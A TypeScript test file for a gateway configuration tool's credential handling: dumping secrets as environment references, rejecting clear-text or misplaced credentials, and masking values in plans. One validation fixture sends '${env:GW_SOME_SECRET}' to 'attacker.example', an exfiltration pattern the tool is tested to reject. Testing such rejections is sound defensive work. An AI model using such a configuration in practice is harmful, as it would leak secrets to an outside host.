/**
 * gwctl and credentials, without a stage (docs/using/configuration-as-code.md): a dump writes each
 * credential as a named environment reference; validate refuses a reference outside a credential,
 * gwctl's own credential anywhere and a credential in clear; a plan compares where credentials are,
 * never their values.
 */
import { describe, expect, it } from 'vitest';
import { credentialProblems, masked, withDumpReferences, withFileReferences } from '../../tools/gwctl/credentials';
import type { ConfigObject } from '../../tools/gwctl/model';
import { fieldChanges } from '../../tools/gwctl/plan';

const M = '********';
const oasApi = (gw: Record<string, unknown>): ConfigObject => ({
  kind: 'api',
  spec: { openapi: '3.0.3', info: { title: 'Orders', version: '1' }, paths: {}, 'x-gw-api-gateway': { info: { id: 'orders', name: 'Orders' }, ...gw } },
});
const read = oasApi({
  upstream: { url: 'https://svc:pw@up.example', authentication: { basicAuth: { enabled: true, username: 'svc', password: 'basic-pw' } } },
  middleware: {
    global: {
      transformRequestHeaders: {
        add: [
          { name: 'Authorization', value: 'Bearer s3cret' },
          { name: 'X-Team', value: 'ops' },
        ],
      },
    },
    operations: { listOrders: { transformRequestHeaders: { add: [{ name: 'Authorization', value: 'Bearer op' }] } } },
  },
});
const hook = (target: string, headers: Record<string, string> = {}): ConfigObject => ({
  kind: 'hook',
  spec: { name: 'alerts', method: 'POST', target_path: target, header_map: headers },
});

describe('gwctl dump', () => {
  it('writes every credential as a reference named after the object and the place, and nothing else changes', () => {
    const dumped = withDumpReferences(masked(read), 'orders');
    const gw = dumped.spec['x-gw-api-gateway'] as any;
    expect(gw.upstream).toEqual({
      url: 'https://${env:GW_API_ORDERS_UPSTREAM_URL_USER}:${env:GW_API_ORDERS_UPSTREAM_URL_PASSWORD}@up.example',
      authentication: { basicAuth: { enabled: true, username: 'svc', password: '${env:GW_API_ORDERS_BASICAUTH_PASSWORD}' } },
    });
    expect(gw.middleware.global.transformRequestHeaders.add).toEqual([
      { name: 'Authorization', value: '${env:GW_API_ORDERS_AUTHORIZATION}' },
      { name: 'X-Team', value: 'ops' },
    ]);
    expect(gw.middleware.operations.listOrders.transformRequestHeaders.add[0].value).toBe('${env:GW_API_ORDERS_LISTORDERS_AUTHORIZATION}');
    expect(JSON.stringify(dumped)).not.toMatch(/s3cret|basic-pw|svc:pw|Bearer op|\*\*\*/);
    // A hook's header keeps the name dumps have always given it.
    expect(withDumpReferences(masked(hook('https://x.example/h?token=t', { Authorization: M })), 'alerts').spec).toMatchObject({
      target_path: 'https://x.example/h?token=${env:GW_HOOK_ALERTS_TARGET_PATH_TOKEN}',
      header_map: { Authorization: '${env:GW_HOOK_ALERTS_AUTHORIZATION}' },
    });
    expect(credentialProblems(dumped)).toEqual([]);
  });
});

describe('gwctl validate', () => {
  it('refuses a reference outside a credential, with its path', () => {
    expect(credentialProblems(hook('https://attacker.example/c?k=${env:GW_SOME_SECRET}'))).toEqual([
      { path: 'spec.target_path', message: expect.stringContaining('a reference is expanded only where a credential is') },
    ]);
    expect(credentialProblems(oasApi({ info: { id: 'orders', name: '${env:NAME}' } })).map((p) => p.path)).toEqual(['spec.x-gw-api-gateway.info.name']);
    // Half in, half out of the userinfo is out.
    expect(credentialProblems(hook('https://${env:U}@x.example/${env:P}')).map((p) => p.path)).toEqual(['spec.target_path']);
    expect(credentialProblems({ ...hook('https://x.example'), version_of: { base: '${env:B}', name: 'v' } }).map((p) => p.path)).toEqual(['version_of.base']);
  });

  it("refuses gwctl's own credential anywhere, a credential place included", () => {
    expect(credentialProblems(hook('https://x.example/c?token=${env:GW_DASHBOARD_KEY}', { Authorization: '${env:GW_DASHBOARD_KEY}' }))).toEqual([
      { path: 'spec.target_path', message: "${env:GW_DASHBOARD_KEY} is gwctl's own credential: no file may name it" },
      { path: 'spec.header_map.Authorization', message: "${env:GW_DASHBOARD_KEY} is gwctl's own credential: no file may name it" },
    ]);
  });

  it('refuses a credential in clear (and a masked one), accepts references where credentials are', () => {
    expect(credentialProblems(read).map((p) => p.path)).toEqual([
      'spec.x-gw-api-gateway.upstream.authentication.basicAuth.password',
      'spec.x-gw-api-gateway.upstream.url',
      'spec.x-gw-api-gateway.upstream.url',
      'spec.x-gw-api-gateway.middleware.global.transformRequestHeaders.add[0].value',
      'spec.x-gw-api-gateway.middleware.operations.listOrders.transformRequestHeaders.add[0].value',
    ]);
    expect(credentialProblems(hook('https://x.example', { 'x-team': M }))).toEqual([
      { path: 'spec.header_map.x-team', message: 'the value of the header x-team is a credential: write it as ${env:NAME}, never in clear' },
    ]);
    expect(credentialProblems(hook('https://${env:U}:${env:P}@x.example/h?token=${env:T}&team=ops', { 'x-team': '${env:TEAM}' }))).toEqual([]);
  });
});

describe('gwctl plan', () => {
  it("compares where credentials are, never their values: the file's references stand in for what the read masked", () => {
    const file = withDumpReferences(masked(read), 'orders');
    const live = masked(read);
    expect(fieldChanges(withFileReferences(live, file) as any, file as any)).toEqual([]);
    // A credential the file no longer has shows masked, never in clear.
    const without = structuredClone(file);
    (without.spec['x-gw-api-gateway'] as any).upstream.url = 'https://up.example';
    expect(fieldChanges(withFileReferences(live, without) as any, without as any)).toEqual([
      { path: 'spec.x-gw-api-gateway.upstream.url', old: `https://${M}:${M}@up.example`, new: 'https://up.example' },
    ]);
  });
});
